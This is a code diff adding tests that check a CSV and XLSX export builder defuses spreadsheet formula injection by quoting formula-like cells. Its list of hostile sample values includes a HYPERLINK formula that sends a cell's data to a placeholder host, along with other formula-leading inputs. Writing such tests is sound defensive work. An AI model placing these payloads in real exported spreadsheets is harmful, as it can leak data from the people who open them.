@@ -2,6 +2,7 @@
 
 import csv
 import io
+import zipfile
 
 import openpyxl
 
@@ -63,3 +64,28 @@ def test_the_csv_quotes_commas_quotes_and_line_breaks():
     rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
     assert rows[1] == tricky[0]
     assert body.count("\ufeff".encode()) == 1
+
+
+HOSTILE = ['=HYPERLINK("http://x/?"&A2,"y")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1"]
+
+
+def test_a_formula_like_csv_cell_is_prefixed_with_a_quote_and_numbers_stay_numbers():
+    body = builders.csv_bytes(["=header"], [[name, -1.5, 0, "Hà Nội - Việt Nam"] for name in HOSTILE])
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+    assert rows[0] == ["'=header"]
+    assert [row[0] for row in rows[1:]] == ["'" + name for name in HOSTILE]
+    assert all(row[1:] == ["-1.5", "0", "Hà Nội - Việt Nam"] for row in rows[1:])
+
+
+def test_a_formula_like_xlsx_cell_is_a_quoted_string_not_a_formula():
+    body = builders.xlsx([("Kết quả", ["=header"], [[name, -1.5, -3, "Hà Nội"] for name in HOSTILE])])
+    sheet_xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
+    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
+    assert sheet["A1"].value == "=header" and sheet["A1"].data_type == "s" and sheet["A1"].font.bold
+    for row, name in enumerate(HOSTILE, start=2):
+        cell = sheet.cell(row=row, column=1)
+        assert cell.value == name
+        assert cell.data_type == "s" and cell.quotePrefix
+    assert sheet["B2"].value == -1.5 and sheet["B2"].data_type == "n" and sheet["C2"].value == -3
+    assert sheet["D2"].value == "Hà Nội" and not sheet["D2"].quotePrefix
